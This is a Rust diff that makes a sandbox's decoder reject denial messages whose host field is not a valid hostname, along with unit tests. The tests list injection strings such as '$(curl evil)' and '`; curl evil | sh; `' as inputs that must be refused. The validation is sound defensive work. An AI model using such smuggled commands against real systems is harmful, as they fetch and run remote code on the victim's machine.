@@ -5,6 +5,7 @@ use std::net::SocketAddr;
 
 use super::{BadFrame, Frame, Payload, Reply};
 use crate::event::{Denial, Event, Level, Stream};
+use crate::sandbox::net_grant::is_host;
 
 /// Something that a guest said or was denied.
 #[derive(Debug)]
@@ -74,7 +75,11 @@ impl<'a> Told<'a> {
             }
             Reply::Denied => {
                 let denied = serde_json::from_slice::<Denied>(payload.rest());
-                Self::Denied(denied.map_err(|_| BadFrame("a denial that is none"))?.into())
+                let denied = denied.map_err(|_| BadFrame("a denial that is none"))?;
+                if !denied.names_a_host() {
+                    return Err(BadFrame("a denial of what is no host"));
+                }
+                Self::Denied(denied.into())
             }
             _ => return Ok(None),
         }))
@@ -89,6 +94,16 @@ enum Denied {
     Name(String),
     Request { host: String, port: u16 },
     Tls { host: String, port: u16 },
+}
+
+impl Denied {
+    /// Returns whether the host that it names is one: a user is told to grant it, and copies that.
+    fn names_a_host(&self) -> bool {
+        match self {
+            Self::Sockets | Self::Connection(_) => true,
+            Self::Name(host) | Self::Request { host, .. } | Self::Tls { host, .. } => is_host(host),
+        }
+    }
 }
 
 impl From<&Denial> for Denied {
@@ -111,6 +126,55 @@ impl From<Denied> for Denial {
             Denied::Name(name) => Self::Name(name),
             Denied::Request { host, port } => Self::Request { host, port },
             Denied::Tls { host, port } => Self::Tls { host, port },
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::WorkerIndex;
+
+    fn told(denial: Denial) -> Result<Denial, BadFrame> {
+        let event = Event::Denied { worker: WorkerIndex::default(), denial: &denial };
+        let frame = super::event(&event).expect("denials are told");
+        // Behind its length and its kind.
+        match Told::decode(Reply::Denied, Payload(&frame[5..]))? {
+            Some(Told::Denied(denial)) => Ok(denial),
+            other => panic!("{other:?}"),
+        }
+    }
+
+    #[test]
+    fn a_denial_names_hosts_and_no_commands() {
+        let long = "a".repeat(64);
+        let much = "a.".repeat(200);
+        #[rustfmt::skip]
+        let cases = [
+            ("example.com",            true),
+            ("Example.COM.",           true),
+            ("127.0.0.1",              true),
+            ("[::1]",                  true),
+            ("",                       false),
+            ("`; curl evil | sh; `",   false),
+            ("$(curl evil)",           false),
+            ("a b",                    false),
+            ("-x",                     false),
+            ("a\nb",                   false),
+            (&long,                    false),
+            (&much,                    false),
+        ];
+        for (host, is_host) in cases {
+            let denials = [
+                Denial::Name(host.into()),
+                Denial::Request { host: host.into(), port: 1 },
+                Denial::Tls { host: host.into(), port: 1 },
+            ];
+            for denial in denials {
+                let found = told(denial.clone());
+                assert_eq!(found.is_ok(), is_host, "{denial:?}");
+                assert!(found.is_err() || found == Ok(denial));
+            }
         }
     }
 }
